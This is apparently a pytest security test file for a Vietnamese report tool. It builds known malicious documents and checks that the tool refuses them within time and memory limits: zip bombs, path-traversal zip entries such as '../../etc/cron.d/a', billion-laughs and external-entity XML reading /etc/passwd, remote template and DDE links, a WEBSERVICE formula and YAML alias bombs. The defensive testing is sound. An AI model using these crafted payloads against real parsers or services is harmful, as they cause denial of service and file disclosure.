"""Attacks that are known by name, each against the command as a clerk runs it: within 2 s and 200 MiB, and refused."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest

from danvan_reports.messages import message
from danvan_reports.opc import CONTENT_TYPES, OLE_FILE, PackageWriter, pack_part, read_package, write_package
from danvan_reports.rendering import CompiledTemplate
from tests.ledger import record

from .caged import MAX_MEMORY, MAX_SECONDS, Run, run_all
from .mutation import MiB, bomb

SOUND = Path(__file__).parent.parent / "formats" / "sound" / "python-docx-party-2026-report.docx"
EXAMPLES = Path(__file__).parent.parent.parent / "examples"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT, STYLES, RELATIONSHIPS = "word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels"


def _document(**changed: bytes) -> bytes:
    """Return a sound document with parts changed or added; ``__`` stands for a slash, ``_x`` for ``.xml``."""
    names = {name: name.replace("__", "/").replace("_x", ".xml").replace("_bin", ".bin") for name in changed}
    return write_package({**read_package(SOUND.read_bytes(), ""), **{names[n]: c for n, c in changed.items()}})


def _with_text(xml: str) -> bytes:
    return write_package(
        {**_parts(), DOCUMENT: f'<w:document xmlns:w="{W}"><w:body>{xml}</w:body></w:document>'.encode()}
    )


def _parts() -> dict[str, bytes]:
    return read_package(SOUND.read_bytes(), "")


def _with_relationship(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    relation = f'<Relationship Id="rX" Type="{R}/{kind}" Target="{target}"{mode}/></Relationships>'
    parts = _parts()
    return write_package({**parts, RELATIONSHIPS: parts[RELATIONSHIPS].replace(b"</Relationships>", relation.encode())})


def _with_bomb(name: str) -> bytes:
    packed = [pack_part(part, content) for part, content in _parts().items()]
    return PackageWriter((*packed, bomb(name))).write(())


def _zip(*entries: tuple[str, bytes], attributes: int = 0) -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (*_parts().items(), *entries):
            info = zipfile.ZipInfo(name)
            info.external_attr = attributes if (name, content) in entries else 0
            archive.writestr(info, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _overlapping() -> bytes:
    """Return a package whose parts are one kernel of packed bytes that 500 entries share (Fifield, 2019)."""
    kernel = pack_part("a", b" " * MiB)
    content = PackageWriter([kernel]).write(())
    start = content.index(b"PK\1\2")
    entry = content[start : start + 47]
    entries = b"".join(entry[:28] + struct.pack("<H", 4) + entry[30:46] + b"%04d" % n for n in range(500))
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 500, 500, len(entries), start, 0)
    return content[:start] + entries + end


def _xml_with(declaration: str, reference: str = "") -> bytes:
    text = f"<w:p><w:r><w:t>{reference}</w:t></w:r></w:p>"
    return write_package(
        {**_parts(), DOCUMENT: f'{declaration}<w:document xmlns:w="{W}"><w:body>{text}</w:body></w:document>'.encode()}
    )


def _encrypted() -> bytes:
    content = bytearray(SOUND.read_bytes())
    content[6] |= 1
    content[content.index(b"PK\1\2") + 8] |= 1
    return bytes(content)


LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol"}">' for n in range(10))
DEFAULTS = f'<!ATTLIST w:p a CDATA "{"x" * 100_000}">'
DEEP_XML = "<w:sdt><w:sdtContent>" * 50_000
EMBEDDED = "mang theo nội dung tự chạy hoặc lấy từ nơi khác: "

DOCUMENTS: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "zip bomb in a picture": (lambda: _with_bomb("word/media/image1.png"), "package.too-large", ""),
    "zip bomb in XML": (lambda: _with_bomb("word/comments.xml"), "package.too-large", ""),
    "zip bomb below every ratio": (
        lambda: _document(**{f"word__a{n}_x": bytes(range(256)) * 16_384 for n in range(9)}), "package.too-large", ""),
    "parts over each other": (_overlapping, "package.too-large", ""),
    "two parts of one name": (
        lambda: _zip(("word/Document.xml", b"<a/>")), "package.duplicate-part", "word/Document.xml"),
    "path upwards": (lambda: _zip(("../../etc/cron.d/a", b"a")), "package.unsafe-name", "'../../etc/cron.d/a'"),
    "path from the root": (lambda: _zip(("/etc/passwd", b"a")), "package.unsafe-name", "'/etc/passwd'"),
    "path of Windows": (lambda: _zip(("..\\..\\a.exe", b"a")), "package.unsafe-name", r"'..\\..\\a.exe'"),
    "path of a drive": (lambda: _zip(("C:/a.exe", b"a")), "package.unsafe-name", "'C:/a.exe'"),
    "path turned round": (lambda: _zip(("word/\u202egnp.exe", b"a")), "package.unsafe-name", "'word/\\u202egnp.exe'"),
    "ten thousand parts": (lambda: _zip(*((f"a/{n}", b"") for n in range(10_000))), "package.too-many-parts", ""),
    "billion laughs": (lambda: _xml_with(f"<!DOCTYPE a [{LAUGHS}]>", "&a9;"), "package.unsafe-xml", DOCUMENT),
    "attributes by default": (lambda: _xml_with(f"<!DOCTYPE a [{DEFAULTS}]>"), "package.unsafe-xml", DOCUMENT),
    "entity of a file": (
        lambda: _xml_with('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "&b;"),
        "package.unsafe-xml", DOCUMENT),
    "DTD of elsewhere": (
        lambda: _xml_with('<!DOCTYPE a SYSTEM "http://nga.example/a.dtd">'), "package.unsafe-xml", DOCUMENT),
    "entities in relationships": (
        lambda: write_package({**_parts(), RELATIONSHIPS: b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships/>'}),
        "package.unsafe-xml", RELATIONSHIPS),
    "deep XML": (lambda: _with_text(DEEP_XML), "document.damaged", ""),
    "password": (lambda: OLE_FILE + bytes(4096), "package.old-or-locked", ""),
    "encrypted part": (_encrypted, "package.encrypted", ""),
    "cut off": (lambda: SOUND.read_bytes()[:9000], "package.damaged", ""),
}  # fmt: skip
"""What is refused, with the key of the sentence and the part that it names."""

CARRIERS: dict[str, tuple[Callable[[], bytes], str]] = {
    "macro": (lambda: _document(word__vbaProject_bin=OLE_FILE + bytes(512)), "word/vbaProject.bin"),
    "OLE object": (lambda: _with_relationship("oleObject", "embeddings/o.bin", ""), "oleObject: embeddings/o.bin"),
    "OLE part": (lambda: _document(word__embeddings__o_bin=OLE_FILE), "word/embeddings/o.bin"),
    "ActiveX": (lambda: _document(word__activeX__activeX1_bin=b"a"), "word/activeX/activeX1.bin"),
    "altChunk": (lambda: _with_relationship("aFChunk", "a.html", ""), "aFChunk: a.html"),
    "template of elsewhere": (
        lambda: _with_relationship("attachedTemplate", "http://nga.example/a.dotm"),
        "attachedTemplate: http://nga.example/a.dotm",
    ),
    "picture of elsewhere": (lambda: _with_relationship("image", "\\\\nga.example\\a"), "image: \\\\nga.example\\a"),
    "DDE field": (
        lambda: _with_text(
            "<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\a</w:instrText></w:r></w:p>"
        ),
        "DDEAUTO",
    ),
    "symbolic link in the zip": (lambda: _zip(("word/a.xml", b"/etc/passwd"), attributes=0xA1FF << 16), ""),
}
"""What is named, or does no harm, with the name."""


def _workbook(sheet: str = "", shared: str = "", rows: str = "") -> bytes:
    """Return a workbook with XML put into its sheet, its shared strings or its rows."""
    buffer = BytesIO()
    workbook = openpyxl.Workbook()
    for row in (["Đơn vị", "a"], ["xã Một", 1]):
        workbook.active.append(row)
    workbook.save(buffer)
    parts = read_package(buffer.getvalue(), "")
    name = "xl/worksheets/sheet1.xml"
    parts[name] = parts[name].replace(b"</sheetData>", f"{rows}</sheetData>{sheet}".encode())
    if shared:
        kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
        override = b'<Override PartName="/xl/sharedStrings.xml" ContentType="' + kind + b'"/></Types>'
        parts[CONTENT_TYPES] = parts[CONTENT_TYPES].replace(b"</Types>", override)
        parts["xl/sharedStrings.xml"] = f'<sst xmlns="{SHEET}">{shared}</sst>'.encode()
    return write_package(parts)


def _ods(rows: str) -> bytes:
    space = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<o:document-content xmlns:o="{space}:office:1.0" xmlns:table="{space}:table:1.0" xmlns:t="{space}:text:1.0">'
        f'<o:body><o:spreadsheet><table:table table:name="a">{rows}</table:table></o:spreadsheet></o:body>'
        "</o:document-content>"
    )
    return write_package(
        {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode()}
    )


FILLED = '<table:table-cell table:number-columns-repeated="{}"><t:p>a</t:p></table:table-cell>'
WORKBOOKS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "bomb.xlsx": ("bomb", lambda: _with_bomb("xl/worksheets/sheet1.xml"), "package.too-large"),
    "bomb.ods": ("bomb", lambda: _with_bomb("content.xml"), "package.too-large"),
    "far.xlsx": ("", lambda: _workbook(rows='<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), ""),
    "merged.xlsx": (
        "", lambda: _workbook(sheet='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "workbook.too-many-cells"),
    "columns.xlsx": ("", lambda: _workbook(sheet='<cols><col min="1" max="2147483647" hidden="1"/></cols>'), ""),
    "cells.xlsx": ("", lambda: _workbook(rows='<row r="9">' + "<c/>" * 600_000 + "</row>"), "workbook.too-many-cells"),
    "shared.xlsx": ("", lambda: _workbook(shared="<si><t>a</t></si>" * 300_000), ""),
    "formula.xlsx": (
        "", lambda: _workbook(rows='<row r="9"><c r="A9"><f>WEBSERVICE("http://nga.example")</f></c></row>'), ""),
    "dates.xlsx": (
        "", lambda: _workbook(rows='<row r="9"><c r="A9" t="d"><v>99999-99-99</v></c></row>'), "workbook.unreadable"),
    "entity.xlsx": (
        "", lambda: write_package({"xl/workbook.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
        "package.unsafe-xml"),
    "locked.xlsx": ("", lambda: OLE_FILE + bytes(4096), "workbook.unreadable"),
    "repeated.ods": (
        "", lambda: _ods(f'<table:table-row table:number-rows-repeated="60000">{FILLED.format(60)}</table:table-row>'),
        "workbook.too-many-cells"),
    "panic.xls": ("", lambda: OLE_FILE + bytes(range(256)) * 20, "workbook.unreadable"),
}  # fmt: skip

DEEP = 200_000
TEXTS: dict[str, tuple[Callable[[], bytes], str]] = {
    "aliases.yaml": (lambda: b"a0: &a0 [x]\n" + b"".join(
        b"a%d: &a%d [%s]\n" % (n, n, b", ".join([b"*a%d" % (n - 1)] * 10)) for n in range(1, 30)), "DL039"),
    "brackets.yaml": (lambda: b"a: " + b"[" * DEEP, "DL043"),
    "closed.yaml": (lambda: b"a: " + b"[" * DEEP + b"]" * DEEP, "DL043"),
    "braces.yaml": (lambda: b"a: " + b"{a: " * 50_000 + b"}" * 50_000, "DL043"),
    "dashes.yaml": (lambda: b"- " * DEEP, "DL043"),
    "indented.yaml": (lambda: b"".join(b" " * n + b"a:\n" for n in range(1000)), "DL043"),
    "keys.yaml": (lambda: b"".join(b"k%d: a\n" % n for n in range(14_000)), "DL103"),
    "values.yaml": (lambda: b"a:\n" + b"- a\n" * 200_000, "DL047"),
    "marks.yaml": (lambda: b"a: " + "\u200ba".encode() * 200_000, "DL046"),
    "anchors.yaml": (lambda: b"a: [" + b"&a b, " * 100_000 + b"]", "DL046"),
    "digits.yaml": (lambda: b"a: " + b"1_" * 100_000, ""),
    "tabs.yaml": (lambda: b"\ta: b\n" * 150_000, "DL046"),
    "quotes.yaml": (lambda: b'a: "' + b"x\\" * DEEP, "DL023"),
    "long.yaml": (lambda: b"don_vi: " + "xã ".encode() * 100_000, ""),
}  # fmt: skip


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Run]:
    folder = tmp_path_factory.mktemp("attacks")
    jobs: dict[str, list[str]] = {}
    files = {f"{name}.docx": make for name, (make, *_) in (DOCUMENTS | CARRIERS).items()}
    files |= {name: make for name, (_, make, _) in WORKBOOKS.items()} | {
        name: make for name, (make, _) in TEXTS.items()
    }
    for name, make in files.items():
        (folder / name).write_bytes(make())
        verb = {".docx": ["check"], ".yaml": []}.get(Path(name).suffix, ["batch", "-j", "1", "-d", "out"])
        jobs[name] = [*verb, name]
    for name in ("large.yaml", "large.docx", "large.xlsx", "large.csv"):
        with (folder / name).open("wb") as stream:
            stream.truncate(100_000_000)
        jobs[name] = [
            *({".docx": ["check"], ".yaml": []}.get(Path(name).suffix, ["batch", "-j", "1", "-d", "out"])),
            name,
        ]
    return run_all(folder, jobs)


def _held(run: Run, *, reached: tuple[str, ...] = ()) -> bool:
    held = run.seconds <= MAX_SECONDS and run.memory <= MAX_MEMORY and run.reached == reached and run.code in {0, 1, 3}
    record("attacks", 1, faults=1, failures=int(not held))
    return held


@pytest.mark.promise
@pytest.mark.parametrize("name", DOCUMENTS)
def test_check__attack_is_refused(runs: dict[str, Run], name: str) -> None:
    _, key, part = DOCUMENTS[name]
    run = runs[f"{name}.docx"]
    said = message(key, "vi", file=f"{name}.docx", part=part)
    assert (_held(run), run.code, said in run.said) == (True, 3, True), run


@pytest.mark.promise
@pytest.mark.parametrize("name", CARRIERS)
def test_check__what_is_carried_is_named(runs: dict[str, Run], name: str) -> None:
    run = runs[f"{name}.docx"]
    named = f"{EMBEDDED}{CARRIERS[name][1]}\n" in run.said
    assert (_held(run), named) == (True, bool(CARRIERS[name][1])), run


@pytest.mark.promise
@pytest.mark.parametrize("name", WORKBOOKS)
def test_batch__attack_is_refused_or_does_no_harm(runs: dict[str, Run], name: str) -> None:
    key = WORKBOOKS[name][2]
    run = runs[name]
    said = message(key, "vi", path=name, file=name, limit="500.000", part="xl/workbook.xml") if key else ""
    reached = ("subprocess.Popen",) if name == "panic.xls" else ()
    assert (_held(run, reached=reached), said in run.said) == (True, True), run


@pytest.mark.promise
@pytest.mark.parametrize("name", TEXTS)
def test_make__attack_is_refused(runs: dict[str, Run], name: str) -> None:
    run = runs[name]
    assert (_held(run), TEXTS[name][1] in run.said) == (True, True), (run.code, run.said[:500], run.seconds, run.memory)


@pytest.mark.promise
@pytest.mark.parametrize("ending", ["yaml", "docx", "xlsx", "csv"])
def test_file_of_100_mb__is_not_read(runs: dict[str, Run], ending: str) -> None:
    run = runs[f"large.{ending}"]
    assert (_held(run), run.code) == (True, 3), run


def test_compiled_template__deep_json_is_refused() -> None:
    for text in ("[" * 1_000_000, '{"version": ' * 1_000_000):
        with pytest.raises(ValueError, match="not a compiled template"):
            CompiledTemplate.from_json(text)
